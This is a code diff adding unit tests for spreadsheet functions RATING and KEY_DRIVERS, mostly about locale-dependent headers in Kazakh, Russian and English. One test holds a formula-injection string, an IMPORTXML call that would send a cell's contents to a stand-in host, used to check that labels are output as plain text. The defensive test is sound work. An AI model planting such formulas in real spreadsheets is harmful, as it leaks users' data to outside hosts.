@@ -257,4 +257,30 @@ describe('RATING', () => {
       addon.properties.document.values.clear()
     }
   })
+
+  it('takes the locale as its last argument, so the header follows a change of language', () => {
+    expect(call('RATING', services, scores, 2, 'ru')[0].slice(0, 2)).toEqual(['Место', 'Услуга'])
+    expect(call('RATING', services, scores, 2, 'EN')[0].slice(0, 2)).toEqual(['Rank', 'Service'])
+    expect(call('RATING', services, scores, '', 'kk')[0][0]).toBe('Орны')
+    expect(() => call('RATING', services, scores, 2, 'de')).toThrow(
+      'locale must be "kk", "ru" or "en", not "de"',
+    )
+  })
+
+  it('spills a label that starts like a formula as that text: spilled values are values', () => {
+    const evil = '=IMPORTXML("https://x.example/?"&A1, "//a")'
+    const table = call('RATING', column(evil, evil, '+7 701', '@x'), column(5, 4, 5, 3), 1)
+    expect(table.slice(1).map((row: unknown[]) => row[1]).sort()).toEqual(['+7 701', '@x', evil].sort())
+  })
+})
+
+describe('KEY_DRIVERS locale', () => {
+  it('takes the locale as its last argument', () => {
+    const aspects = [['Сроки'], [1], [2], [3]]
+    expect(call('KEY_DRIVERS', aspects, column(1, 2, 3), 'en')[0]).toEqual([
+      'Aspect',
+      'Correlation (r)',
+      'Respondents',
+    ])
+  })
 })
